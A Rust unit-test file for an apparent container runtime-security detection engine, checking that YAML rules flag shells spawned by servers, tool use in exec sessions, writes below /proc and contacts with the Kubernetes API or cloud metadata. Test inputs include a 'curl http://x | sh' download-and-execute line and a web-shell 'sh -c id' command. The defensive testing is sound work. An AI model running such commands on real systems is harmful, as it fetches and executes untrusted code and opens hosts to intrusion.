//! Unit tests of loading, compiling and matching rules.

use time::OffsetDateTime;

use super::*;
use crate::event::{
    Ancestor, Body, Connect, Container, Event, Exec, FileActivity, FileOperation, Lineage, Pod,
    ProcessFields, Role,
};

fn event(body: Body) -> Event {
    Event {
        time: OffsetDateTime::UNIX_EPOCH,
        ktime_ns: 0,
        process: ProcessFields::default(),
        cgroup_id: Some(1),
        container: Some(Container {
            id: "c1".into(),
            runtime: "containerd".into(),
            name: None,
            image: Some("docker.io/library/nginx:1.27".into()),
        }),
        pod: Some(Pod {
            uid: "p1".into(),
            namespace: Some("web".into()),
            ..Pod::default()
        }),
        ancestry: Vec::new(),
        // What a command typed in `kubectl exec` gives: the session's child.
        lineage: Some(lineage(Role::ExecSession, false)),
        body,
    }
}

fn exec(filename: &str, argv: &[&str], parents: &[&str]) -> Event {
    let mut e = event(Body::Exec(Exec {
        filename: filename.into(),
        argv: argv.iter().map(|s| (*s).to_owned()).collect(),
        argv_truncated: false,
        filename_truncated: false,
        tty: false,
        parent_cgroup_id: None,
    }));
    e.ancestry = parents
        .iter()
        .map(|exe| Ancestor {
            pid: 1,
            exe: (*exe).into(),
        })
        .collect();
    e
}

fn open_write(path: &str) -> Event {
    event(Body::File(FileActivity {
        op: FileOperation::Open,
        path: path.into(),
        flags: 0o1101,
        write: true,
        sensitive: true,
        read_sensitive: false,
        relative: false,
        dirfd: None,
        path_truncated: false,
        target: None,
        suppressed: 0,
        result: None,
        resolved: false,
        outside_root: false,
        joined: false,
        original_path: None,
        original_target: None,
        self_path: None,
    }))
}

fn ids(set: &RuleSet, event: &Event) -> Vec<String> {
    let facts = Facts {
        event,
        drift: false,
    };
    set.matching(&facts).map(|r| r.meta().id.clone()).collect()
}

fn one(yaml: &str) -> Result<RuleSet, RulesError> {
    RuleSet::from_sources(&[("r.yaml".into(), yaml.into())])
}

#[test]
fn default_rules_compile() {
    let set = RuleSet::defaults().unwrap();
    assert!(set.rules().len() >= 15);
}

#[test]
fn typo_in_a_field_names_file_line_and_column() {
    let yaml = "rules:\n  - id: x\n    description: d\n    mitre: {tactic: Execution, technique: T1059}\n    severity: low\n    weight: 1\n    when:\n      kind: exec\n      exee: {exact: /bin/sh}\n";
    let err = one(yaml).unwrap_err().to_string();
    assert!(err.contains("r.yaml"), "{err}");
    assert!(err.contains("unknown field `exee`"), "{err}");
    assert!(err.contains("line 9 column 7"), "{err}");
}

#[test]
fn semantic_problems_are_all_reported_with_their_path() {
    let yaml = r#"
rules:
  - id: bad
    description: d
    mitre: {tactic: Exfil, technique: "1059"}
    severity: low
    weight: -1
    when:
      kind: [exec, fork]
      exe: {basename: "@nope", glob: "[x"}
      daddr: [10.0.0.0/33]
      use: [missing]
"#;
    let Err(RulesError::Invalid { problems }) = one(yaml) else {
        panic!("expected problems");
    };
    let at: Vec<_> = problems.iter().map(|p| p.at.as_str()).collect();
    for want in [
        "rules[0].mitre.tactic",
        "rules[0].mitre.technique",
        "rules[0].weight",
        "rules[0].when.kind",
        "rules[0].when.exe.basename",
        "rules[0].when.exe.glob",
        "rules[0].when.daddr",
        "rules[0].when.use[0]",
    ] {
        assert!(at.contains(&want), "{want} missing from {at:?}");
    }
}

#[test]
fn shell_from_web_server_matches_and_entrypoint_script_does_not() {
    let set = RuleSet::defaults().unwrap();
    let shell = exec(
        "/bin/sh",
        &["sh", "-c", "curl http://x | sh"],
        &["/usr/sbin/nginx"],
    );
    let got = ids(&set, &shell);
    assert!(
        got.contains(&"shell-spawned-by-server".to_owned()),
        "{got:?}"
    );
    assert!(got.contains(&"download-and-execute".to_owned()), "{got:?}");
    let mut entry = exec(
        "/docker-entrypoint.sh",
        &["/docker-entrypoint.sh", "nginx"],
        &["/usr/bin/containerd-shim-runc-v2"],
    );
    entry.lineage = Some(lineage(Role::Entrypoint, true));
    assert!(ids(&set, &entry).is_empty());
    let dropped = exec("/tmp/x.sh", &["/tmp/x.sh"], &["/bin/sh"]);
    assert_eq!(ids(&set, &dropped), ["script-executed"]);
}

#[test]
fn host_events_do_not_match_container_rules() {
    let set = RuleSet::defaults().unwrap();
    let mut shell = exec("/usr/bin/curl", &["curl", "x"], &["/bin/bash"]);
    assert_eq!(ids(&set, &shell), ["transfer-tool"]);
    shell.container = None;
    shell.pod = None;
    assert!(ids(&set, &shell).is_empty());
}

#[test]
fn writes_below_proc_and_exceptions() {
    let set = RuleSet::defaults().unwrap();
    assert_eq!(
        ids(&set, &open_write("/proc/sys/kernel/core_pattern")),
        ["write-below-proc"]
    );
    assert!(ids(&set, &open_write("/proc/self/oom_score_adj")).is_empty());
    assert!(ids(&set, &open_write("/dev/termination-log")).is_empty());
    assert_eq!(ids(&set, &open_write("/usr/bin/ls")), ["write-binary-dir"]);
    assert!(ids(&set, &open_write("/usr/binx")).is_empty());
}

#[test]
fn connections_to_the_api_and_metadata() {
    let set = RuleSet::defaults().unwrap();
    let connect = |addr: &str, port| {
        event(Body::Connect(Connect {
            family: "ipv4".into(),
            protocol: "tcp".into(),
            daddr: addr.parse().unwrap(),
            dport: port,
            blocked: false,
        }))
    };
    assert_eq!(
        ids(&set, &connect("10.96.0.1", 443)),
        ["kubernetes-api-contacted"]
    );
    assert!(ids(&set, &connect("10.96.0.10", 53)).is_empty());
    assert_eq!(
        ids(&set, &connect("169.254.169.254", 80)),
        ["cloud-metadata-contacted"]
    );
    let mut system = connect("10.96.0.1", 443);
    system.pod.as_mut().unwrap().namespace = Some("kube-system".into());
    assert!(ids(&set, &system).is_empty());
}

#[test]
fn labels_namespace_and_image_conditions() {
    let yaml = r#"
rules:
  - id: labelled
    description: d
    mitre: {tactic: Execution, technique: T1059}
    severity: low
    weight: 1
    when:
      kind: exec
      namespace: web
      labels: {app: [nginx, "*"]}
      image: {glob: "docker.io/library/nginx:*"}
"#;
    let set = one(yaml).unwrap();
    let mut e = exec("/bin/true", &["true"], &[]);
    assert!(ids(&set, &e).is_empty(), "label missing");
    e.pod
        .as_mut()
        .unwrap()
        .labels
        .insert("app".into(), "other".into());
    assert_eq!(ids(&set, &e), ["labelled"]);
}

#[test]
fn drift_is_a_fact_from_the_engine() {
    let set = RuleSet::defaults().unwrap();
    let e = exec("/tmp/payload", &["/tmp/payload"], &["/bin/sh"]);
    let facts = Facts {
        event: &e,
        drift: true,
    };
    let got: Vec<_> = set.matching(&facts).map(|r| r.meta().id.as_str()).collect();
    assert_eq!(got, ["drift-executed"]);
}

fn lineage(role: Role, leader: bool) -> Lineage {
    Lineage {
        role,
        tty: false,
        leader,
    }
}

#[test]
fn the_runtime_setting_a_container_up_matches_no_default_rule() {
    let set = RuleSet::defaults().unwrap();
    for path in [
        "/proc/4242/oom_score_adj",
        "/proc/sys/net/ipv4/ip_unprivileged_port_start",
        "/proc/sys/net/ipv4/ping_group_range",
    ] {
        let mut write = open_write(path);
        write.lineage = Some(lineage(Role::Runtime, false));
        assert!(ids(&set, &write).is_empty(), "{path}");
        // The same write by the workload is one.
        write.lineage = Some(lineage(Role::Entrypoint, false));
        assert_eq!(ids(&set, &write), ["write-below-proc"], "{path}");
    }
}

#[test]
fn a_rule_that_names_the_runtime_sees_it() {
    let yaml = "rules:\n  - id: runtime-writes-proc\n    description: d\n    mitre: {tactic: Execution, technique: T1059}\n    severity: low\n    weight: 0\n    when: {kind: file, lineage: [runtime], path: {prefix: /proc}}\n";
    let set = RuleSet::from_sources(&[("r.yaml".into(), yaml.into())]).unwrap();
    let mut write = open_write("/proc/sys/kernel/core_pattern");
    write.lineage = Some(lineage(Role::Runtime, false));
    assert_eq!(ids(&set, &write), ["runtime-writes-proc"]);
    write.lineage = Some(lineage(Role::ExecSession, true));
    assert!(ids(&set, &write).is_empty());
    let bad = yaml.replace("[runtime]", "[runc]");
    let err = RuleSet::from_sources(&[("r.yaml".into(), bad)]).unwrap_err();
    assert!(
        err.to_string().contains("unknown lineage \"runc\""),
        "{err}"
    );
}

#[test]
fn own_proc_entries_match_by_their_self_path() {
    let set = RuleSet::defaults().unwrap();
    // A workload process setting its own OOM score: the kernel resolved /proc/self to its pid.
    let mut own = open_write("/proc/7/oom_score_adj");
    own.lineage = Some(lineage(Role::Entrypoint, false));
    if let Body::File(file) = &mut own.body {
        file.self_path = Some("/proc/self/oom_score_adj".into());
    }
    assert!(ids(&set, &own).is_empty());
    // Another process's score is not its own.
    let mut other = open_write("/proc/1/oom_score_adj");
    other.lineage = Some(lineage(Role::Entrypoint, false));
    assert_eq!(ids(&set, &other), ["write-below-proc"]);
}

#[test]
fn shells_by_lineage() {
    let set = RuleSet::defaults().unwrap();
    // `kubectl exec -it pod -- bash`: an interactive session.
    let mut terminal = exec(
        "/bin/bash",
        &["bash"],
        &["/usr/bin/containerd-shim-runc-v2"],
    );
    terminal.lineage = Some(Lineage {
        role: Role::ExecSession,
        tty: true,
        leader: true,
    });
    let got = ids(&set, &terminal);
    assert!(
        got.contains(&"terminal-shell-in-container".to_owned()),
        "{got:?}"
    );
    // An exec probe's `sh -c`, started by the runtime without a terminal.
    let mut probe = exec("/bin/sh", &["sh", "-c", "test -f /tmp/ok"], &[]);
    probe.lineage = Some(lineage(Role::Probe, true));
    assert!(ids(&set, &probe).is_empty());
    // A probe's own children are the probe's.
    probe.lineage = Some(lineage(Role::Probe, false));
    assert!(ids(&set, &probe).is_empty());
    // A shell an exec session's command starts is one.
    probe.lineage = Some(lineage(Role::ExecSession, false));
    assert_eq!(ids(&set, &probe), ["shell-in-container"]);
    // In the workload: logrotate's postrotate shell is the workload's own, a shell a Python
    // app starts (a web shell) is not.
    let mut postrotate = exec("/bin/sh", &["sh", "-c", "kill -HUP 1"], &["/usr/sbin/logrotate"]);
    postrotate.lineage = Some(lineage(Role::Entrypoint, false));
    assert!(ids(&set, &postrotate).is_empty());
    let mut webshell = exec("/bin/sh", &["sh", "-c", "id"], &["/usr/bin/python3"]);
    webshell.lineage = Some(lineage(Role::Entrypoint, false));
    assert_eq!(ids(&set, &webshell), ["shell-in-container"]);
}

#[test]
fn tools_are_unexpected_in_sessions_and_under_servers() {
    let set = RuleSet::defaults().unwrap();
    // The workload's own backup job: tar from its entrypoint's shell.
    let mut job = exec("/usr/bin/tar", &["tar", "czf", "/b.tgz", "data"], &["/bin/sh"]);
    job.lineage = Some(lineage(Role::Entrypoint, false));
    assert!(ids(&set, &job).is_empty());
    // The same in an exec session, or under a server (command injection).
    job.lineage = Some(lineage(Role::ExecSession, false));
    assert_eq!(ids(&set, &job), ["archive-tool"]);
    job.lineage = Some(lineage(Role::Entrypoint, false));
    job.ancestry.push(Ancestor {
        pid: 1,
        exe: "/usr/sbin/nginx".into(),
    });
    assert_eq!(ids(&set, &job), ["archive-tool"]);
    // A curl exec probe.
    let mut probe = exec("/usr/bin/curl", &["curl", "-f", "http://127.0.0.1/"], &[]);
    probe.lineage = Some(lineage(Role::Probe, true));
    assert!(ids(&set, &probe).is_empty());
}
